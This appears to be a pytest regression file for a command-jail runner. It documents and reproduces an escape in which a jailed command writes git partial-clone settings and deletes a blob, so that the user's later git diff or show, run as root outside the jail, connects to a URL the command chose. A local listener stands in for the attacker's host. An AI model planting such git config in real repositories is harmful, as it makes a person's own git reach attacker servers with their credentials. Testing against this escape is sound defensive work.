"""rt6: a jailed command makes the person's git, outside the jail, connect where the command chose.

The runner undoes git metadata that would make git outside the jail run programs, but lets
config keys on ``_gitmeta.SAFE_KEYS`` stay. Four of those together make a *partial clone*:
``core.repositoryformatversion = 1``, ``extensions.partialClone = R``, ``remote.R.promisor``
and ``remote.R.url``. git then fetches every object it lacks from that URL on its own, during
ordinary commands (``diff``, ``show``, ``log -p``, ``checkout``). A jailed command deletes one
blob from its repository; the next ``git diff`` the person runs — as root, outside the jail,
with root's credentials, ssh keys and ssh config — connects to the URL. A listener on
127.0.0.1 stands in for the attacker's host: it records the connection and answers nothing.

Spelling 1: a workspace script run through ``aios run`` (http URL, ``git diff``).
Spelling 2: one command line that appends the settings with printf (ssh URL: the person's own
ssh client connects; ``git show``).
"""

from __future__ import annotations

import socket
import subprocess
import threading
from pathlib import Path

from harness import Env

G = "git -c init.defaultBranch=main -c user.name=a -c user.email=a@b"


class Listener:
    """A TCP listener on 127.0.0.1 that records the first bytes of every connection."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        self.seen: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(3)
                try:
                    self.seen.append(conn.recv(200) or b"(connected)")
                except OSError:
                    self.seen.append(b"(connected)")

    def close(self) -> None:
        self.sock.close()


def _persons_git(repo: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """git as the person runs it later: outside the jail, as the test's user (root here)."""
    return subprocess.run(
        ["git", "-c", "safe.directory=*", "-C", str(repo), *args], capture_output=True, text=True, timeout=60,
        env={"PATH": "/usr/bin:/bin", "HOME": str(repo), "GIT_SSH_COMMAND": "ssh -o BatchMode=yes -o ConnectTimeout=5 "
             "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null"},
    )  # fmt: skip


def _repo_then_drop_a_blob(url: str) -> str:
    return (f"{G} init -q sub && cd sub && echo one > f && {G} add f && {G} commit -qm 1 && echo two > f && "
            f"{G} commit -qam 2 && blob=$(git rev-parse HEAD~1:f) && "
            "printf '[core]\\n\\trepositoryformatversion = 1\\n[extensions]\\n\\tpartialClone = origin\\n"
            f"[remote \"origin\"]\\n\\turl = {url}\\n\\tpromisor = true\\n' >> .git/config && "
            "rm -f .git/objects/${blob:0:2}/${blob:2}")  # fmt: skip


def test_a_workspace_script_makes_the_persons_git_diff_fetch_from_its_url(env: Env, daemon: object) -> None:
    listener = Listener()
    try:
        (env.workspace / "setup.sh").write_text(_repo_then_drop_a_blob(f"http://127.0.0.1:{listener.port}/x.git") + "\n")
        ran = env.cli("run", "--", "bash setup.sh")
        assert ran.returncode == 0, ran.stderr
        _persons_git(env.workspace / "sub", "diff", "HEAD~1", "HEAD")
        assert listener.seen == [], f"the person's git diff connected to the jail's URL: {listener.seen[0][:80]!r}"
    finally:
        listener.close()


def test_a_command_line_makes_the_persons_git_show_run_ssh_to_its_host(env: Env, daemon: object) -> None:
    listener = Listener()
    try:
        line = _repo_then_drop_a_blob(f"ssh://git@127.0.0.1:{listener.port}/x.git")
        ran = env.cli("run", "--", line)
        assert ran.returncode == 0, ran.stderr
        _persons_git(env.workspace / "sub", "show", "HEAD~1")
        assert listener.seen == [], f"the person's git ran ssh to the jail's host: {listener.seen[0][:80]!r}"
    finally:
        listener.close()
